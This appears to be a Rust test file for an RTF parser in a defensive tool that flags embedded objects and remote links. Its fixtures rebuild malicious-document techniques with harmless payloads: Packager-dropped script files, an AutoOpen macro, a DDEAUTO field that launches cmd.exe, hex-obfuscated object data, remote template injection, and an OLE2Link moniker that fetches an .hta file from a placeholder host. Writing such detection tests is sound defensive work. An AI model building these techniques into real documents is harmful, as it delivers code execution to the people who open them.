//! RTF as Word writes it, as Outlook packs it, and as attackers bend it.

mod hostile;
mod text;

use super::*;
use crate::office::forge;

fn parse(bytes: &[u8]) -> Parsed<Rtf> {
    read(bytes, &Limits::desk(), &mut Budget::new(&Limits::desk()))
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

fn counted(text: &[u8]) -> Vec<u8> {
    [&(text.len() as u32 + 1).to_le_bytes()[..], text, b"\0"].concat()
}

/// An embedded object (MS-OLEDS 2.2.5).
fn embedded(class: &str, data: &[u8]) -> Vec<u8> {
    let len = (data.len() as u32).to_le_bytes();
    [
        &[1, 5, 0, 0, 2, 0, 0, 0][..],
        &counted(class.as_bytes()),
        &[0; 8],
        &len,
        data,
        &[1, 5, 0, 0, 0, 0, 0, 0],
    ]
    .concat()
}

/// What the Packager writes.
fn package(name: &str, data: &[u8]) -> Vec<u8> {
    let path = format!("C:\\Users\\a\\{name}\0");
    let head = [&[2, 0][..], name.as_bytes(), b"\0", path.as_bytes(), &[0, 0, 3, 0]].concat();
    embedded(
        "Package",
        &[
            &head[..],
            &counted(path.trim_end_matches('\0').as_bytes()),
            &(data.len() as u32).to_le_bytes(),
            data,
        ]
        .concat(),
    )
}

fn with_object(digits: &str) -> Vec<u8> {
    format!(r"{{\rtf1{{\object\objemb{{\*\objclass Package}}{{\*\objdata {digits}}}{{\result text}}}}}}")
        .into_bytes()
}

/// `class name target bytes` of each object, then problems.
#[track_caller]
fn check(bytes: &[u8], expected: &[&str]) {
    let parsed = parse(bytes);
    let objects = parsed.value.objects.iter().map(|object| {
        let name = object.name.as_deref().unwrap_or("-");
        let target = object.target.as_deref().unwrap_or("-");
        format!("{} {name} {target} {}", object.class, String::from_utf8_lossy(&object.bytes))
    });
    let problems = parsed.problems.iter().map(|problem| format!("! {:?} {}", problem.kind, problem.detail));
    assert_eq!(objects.chain(problems).collect::<Vec<_>>(), expected);
}

#[test]
fn a_package_gives_its_file_and_name() {
    check(&with_object(&hex(&package("run.js", b"var a;"))), &["Package run.js - var a;"]);
}

#[test]
fn a_compound_file_comes_out_whole() {
    let ole =
        forge::document("Macros/", 932, &[forge::module("ThisDocument", "Sub AutoOpen()\r\nEnd Sub")], &[]);
    let parsed = parse(&with_object(&hex(&embedded("Word.Document.8", &ole))));
    assert_eq!(parsed.value.objects[0].bytes, ole);
    assert_eq!(parsed.problems, []);
}

#[test]
fn digits_are_read_through_what_word_ignores() {
    let plain = package("a.vbs", b"x=1");
    let digits = hex(&plain);
    let pairs = |between: &str| {
        let pieces: Vec<String> = plain.iter().map(|byte| format!("{byte:02X}")).collect();
        pieces.join(between)
    };
    let expected = ["Package a.vbs - x=1"];
    for noise in
        [" ", "\r\n", "\t", r"{\*\fonttbl41}", r"{\*\unheardof 4142}", r"\par ", r"\'41", r"\bin0 ", "zz"]
    {
        check(&with_object(&pairs(noise)), &expected);
    }
    // Between the halves of one byte.
    let halves: String = digits.chars().map(|c| format!("{c} ")).collect();
    check(&with_object(&halves), &expected);
    // The digits are in a group of their own, or groups of groups.
    check(&with_object(&format!("{{{{{digits}}}}}")), &expected);
}

#[test]
fn a_digit_before_a_quoted_character_is_lost_as_word_loses_it() {
    let plain = package("a.vbs", b"x=1");
    let (first, rest) = plain.split_at(7);
    check(&with_object(&format!("{}7\\'ff{}", hex(first), hex(rest))), &["Package a.vbs - x=1"]);
}

#[test]
fn binary_data_stand_among_digits() {
    let plain = package("a.vbs", b"x={1}\\");
    let (first, rest) = plain.split_at(20);
    let mut rtf = format!(r"{{\rtf1{{\object{{\*\objdata {}\bin{} ", hex(first), rest.len()).into_bytes();
    rtf.extend(rest);
    rtf.extend(b"}}}");
    check(&rtf, &["Package a.vbs - x={1}\\"]);
}

#[test]
fn an_object_without_its_group_ends_is_read() {
    let digits = hex(&package("a.vbs", b"x=1"));
    check(format!(r"{{\rt{{\object\objdata {digits}").as_bytes(), &["Package a.vbs - x=1"]);
}

#[test]
fn a_linked_object_names_its_target() {
    let link = [
        &[1, 5, 0, 0, 1, 0, 0, 0][..],
        &counted(b"Word.Document.8"),
        &counted(b"http://a.example/b.doc"),
        &counted(b""),
    ]
    .concat();
    check(
        format!(r"{{\rtf1{{\object\objautlink\objupdate{{\*\objdata {}}}}}}}", hex(&link)).as_bytes(),
        &["Word.Document.8 - http://a.example/b.doc "],
    );
    assert!(
        parse(format!(r"{{\rtf1{{\object\objautlink{{\*\objdata {}}}}}}}", hex(&link)).as_bytes())
            .value
            .objects[0]
            .refreshes
    );
}

#[test]
fn a_url_moniker_names_its_target() {
    let url: Vec<u8> = "http://a.example/x.hta\0".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut stream = vec![0; 24];
    stream.extend([
        0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11, 0x8C, 0x82, 0x00, 0xAA, 0x00, 0x4B, 0xA9, 0x0B,
    ]);
    stream.extend((url.len() as u32).to_le_bytes());
    stream.extend(url);
    let ole = forge::compound(::cfb::Version::V3, &[("\u{1}Ole", &stream)]);
    let parsed = parse(&with_object(&hex(&embedded("OLE2Link", &ole))));
    assert_eq!(parsed.value.objects[0].target.as_deref(), Some("http://a.example/x.hta"));
}

#[test]
fn what_is_no_object_is_kept_and_told() {
    check(
        &with_object("41424344"),
        &["Package - - ABCD", "! Malformed the data of the object is no OLE 1.0 object"],
    );
    let mut cut = embedded("Package", b"12345678");
    cut.truncate(cut.len() - 12);
    check(
        &with_object(&hex(&cut)),
        &["Package - - 1234", "! Truncated the object lacks 4 bytes that it claims"],
    );
}

#[track_caller]
fn links(rtf: &str, expected: &[(LinkKind, &str)]) {
    let read = parse(rtf.as_bytes()).value;
    let found: Vec<(LinkKind, &str)> =
        read.links.iter().map(|link| (link.kind, link.target.as_str())).collect();
    assert_eq!(found, expected, "{rtf}");
}

#[test]
fn templates_and_fields_tell_what_they_fetch_or_run() {
    links(
        r"{\rtf1{\*\template http://a.example/t.dotm}}",
        &[(LinkKind::Template, "http://a.example/t.dotm")],
    );
    links(
        r"{\rtf1{\*\template \u104 ?\u116?\u116?p\'3a//a.example/t}}",
        &[(LinkKind::Template, "http://a.example/t")],
    );
    links(
        r#"{\rtf1{\field{\*\fldinst {\rtlch DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}}{\fldrslt x}}}"#,
        &[(LinkKind::Dde, r"c:\windows\system32\cmd.exe /k calc.exe")],
    );
    links(
        r#"{\rtf1{\field{\*\fldinst INCLUDEPICTURE \\d "http://a.example/p.png" \\* MERGEFORMAT}}}"#,
        &[(LinkKind::Picture, "http://a.example/p.png")],
    );
    links(
        r#"{\rtf1{\field{\*\fldinst HYPERLINK "http://a.example/"}{\fldrslt click}}}"#,
        &[(LinkKind::Hyperlink, "http://a.example/")],
    );
    links(r"{\rtf1{\field{\*\fldinst PAGE}{\fldrslt 1}}}", &[]);
}
